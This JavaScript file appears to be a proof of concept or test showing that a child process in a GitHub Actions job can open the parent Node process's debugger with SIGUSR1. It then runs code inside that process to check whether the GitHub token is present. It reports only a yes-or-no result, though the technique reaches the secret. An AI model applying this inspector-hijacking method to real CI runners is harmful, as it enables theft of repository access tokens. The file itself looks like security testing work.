// Opens the inspector of the nearest Node ancestor, and reads the token through it.
import { readFileSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";

const parentOf = (id) => Number(/\) \S (\d+)/.exec(readFileSync(`/proc/${id}/stat`, "utf8"))?.[1]);
const nameOf = (id) => readFileSync(`/proc/${id}/comm`, "utf8").trim();

// The nearest Node ancestor is the action; the processes above it do not belong to the job.
let parent = process.ppid;
let isSignalled = false;
try {
  while (parent > 1 && !/^(?:node|MainThread)/.test(nameOf(parent))) parent = parentOf(parent);
  if (parent > 1) isSignalled = process.kill(parent, "SIGUSR1");
} catch {
  // The process is hidden or belongs to another user.
}

for (let tries = 0; isSignalled && tries < 100; tries++) {
  const list = await fetch("http://127.0.0.1:@PORT@/json/list").then(
    (response) => response.json(),
    () => null,
  );
  if (list === null) {
    await sleep(50);
    continue;
  }
  const socket = new WebSocket(list[0].webSocketDebuggerUrl);
  await new Promise((resolve) => socket.addEventListener("open", resolve));
  const reply = new Promise((resolve) => socket.addEventListener("message", ({ data }) => resolve(JSON.parse(data))));
  const expression = `process.env["INPUT_GITHUB-TOKEN"].startsWith("ghs_")`;
  socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
  if ((await reply).result?.result?.value === true) console.log("token");
  socket.close();
  break;
}
